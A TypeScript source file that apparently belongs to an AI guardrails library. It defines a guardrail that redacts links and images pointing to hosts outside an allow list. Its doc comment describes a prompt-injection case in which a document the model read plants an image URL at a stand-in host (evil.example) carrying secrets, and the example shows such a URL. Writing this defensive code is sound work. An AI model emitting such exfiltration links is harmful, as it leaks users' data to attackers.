import type { Guardrail } from '@aiwork/core';
import type { Detector, Finding } from '../finding/detector.ts';
import { type FindingGuardrailOptions, findingGuardrail } from '../finding/finding-guardrail.ts';
import { checkOptions, texts } from '../guardrail-options.ts';
import { linkFilter } from './link-rules.ts';
import { linkTargets, openTarget } from './link-targets.ts';

/** @since 0.1.0 */
export interface LinkGuardrailOptions extends FindingGuardrailOptions {
  /** Hosts that links may go to: `example.org` is that one, `*.example.org` all under it. */
  readonly hosts: readonly string[];
  /** Schemes that links may have. Default `['https', 'mailto']`. */
  readonly schemes?: readonly string[];
}

/**
 * Looks for links and images that go where they may not. A page that shows an answer loads its images: one at
 * `https://evil.example/?secret=…`, put into the answer by a document the model read, sends away what the model knows. Found
 * are targets in Markdown, HTML and CSS, and what is shown as a link because of its form (`https://…`, `www.…`); links
 * without a host, to a place on the same site, pass.
 *
 * @throws `AIWORK_INVALID_ARGUMENT` when an option cannot be used.
 * @example
 * ```ts
 * import { linkGuardrail } from '@aiwork/guardrails';
 *
 * const links = linkGuardrail({ name: 'links', hosts: ['example.org', '*.example.org'] });
 * const { signal } = new AbortController();
 * const text = 'See [the docs](https://docs.example.org/a) ![.](https://evil.example/?q=hunter2)';
 * console.log(await links.check({ text, final: true }, { signal }));
 * // { action: 'redact', text: 'See [the docs](https://docs.example.org/a) ![.]([link])', reason: 'replaced 1 of kind "link"' }
 * ```
 * @since 0.1.0
 */
export function linkGuardrail(options: LinkGuardrailOptions): Guardrail {
  const { name } = checkOptions(options);
  const hosts = texts(options.hosts, 'hosts', name);
  const schemes = texts(options.schemes ?? ['https', 'mailto'], 'schemes', name);
  const isAllowed = linkFilter({ hosts, schemes }, name);
  const links: Detector = Object.freeze({
    kind: 'link',
    *find(text: string, from = 0): Generator<Finding> {
      let last: Finding = { start: 0, end: 0 };
      for (const target of linkTargets(text, from)) {
        const { start, end } = target;
        // What is in one that was found goes with it.
        const isIn = start >= last.start && end <= last.end;
        if (isIn || isAllowed(text.slice(start, end))) continue;
        last = target;
        yield target;
      }
    },
    streaming: Object.freeze({ windowChars: Infinity, openAt: openTarget }),
  });
  return findingGuardrail(options, [links]);
}
